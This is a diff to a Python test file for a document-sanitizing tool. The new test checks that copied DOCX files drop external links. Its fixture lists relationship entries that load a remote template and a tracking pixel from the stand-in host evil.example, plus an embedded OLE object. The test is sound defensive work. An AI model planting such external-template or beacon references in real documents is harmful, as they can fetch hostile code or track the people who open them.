@@ -2,6 +2,7 @@
 
 import io
 import zipfile
+from xml.etree import ElementTree as ET
 
 import pytest
 from PIL import Image
@@ -31,6 +32,7 @@ def holds_mark(content):
         (files.PDF, testing.pdf(mark=testing.MARK)),
         (files.DOCX, testing.docx(mark=testing.MARK)),
         (files.ODT, testing.odt(mark=testing.MARK)),
+        (files.DOCX, testing.docx(**{"word/a.xml": f'<a xmlns:w="x" w:author="{testing.MARK}"/>'.encode("utf-16")})),
     ],
     ids=lambda value: getattr(value, "ending", ""),
 )
@@ -60,6 +62,28 @@ def test_a_copy_of_a_document_keeps_its_words_and_its_tables_agree():
             True,
             False,
         )
+
+
+def test_s30_a_copy_of_a_document_calls_no_server_when_it_is_opened():
+    relations = b"""<?xml version="1.0"?><Relationships>
+<Relationship Id="1" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>
+<Relationship Id="2" Type="x/image" Target="http://evil.example/pixel.png" TargetMode="External"/>
+<Relationship Id="3" Type="x/hyperlink" Target="http://good.example/" TargetMode="External"/>
+<Relationship Id="4" Type="x/oleObject" Target="embeddings/oleObject1.bin"/>
+<Relationship Id="5" Type="x/comments" Target="comments.xml"/>
+<Relationship Id="6" Type="x/styles" Target="styles.xml"/></Relationships>"""
+    parts = {
+        "word/_rels/document.xml.rels": relations,
+        "word/comments.xml": b"<a/>",
+        "word/embeddings/oleObject1.bin": b"x",
+    }
+    copy, _, _ = in_child(testing.docx(**parts), files.DOCX)
+    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
+        ET.fromstring(archive.read("word/document.xml"))
+        kept = ET.fromstring(archive.read("word/_rels/document.xml.rels"))
+    assert {each.get("Id"): each.get("Target") for each in kept} == {
+        "1": "about:blank", "2": "about:blank", "3": "http://good.example/", "4": "about:blank", "6": "styles.xml",
+    }  # fmt: skip
 
 
 def test_plain_text_of_an_old_encoding_is_copied_as_utf_8():
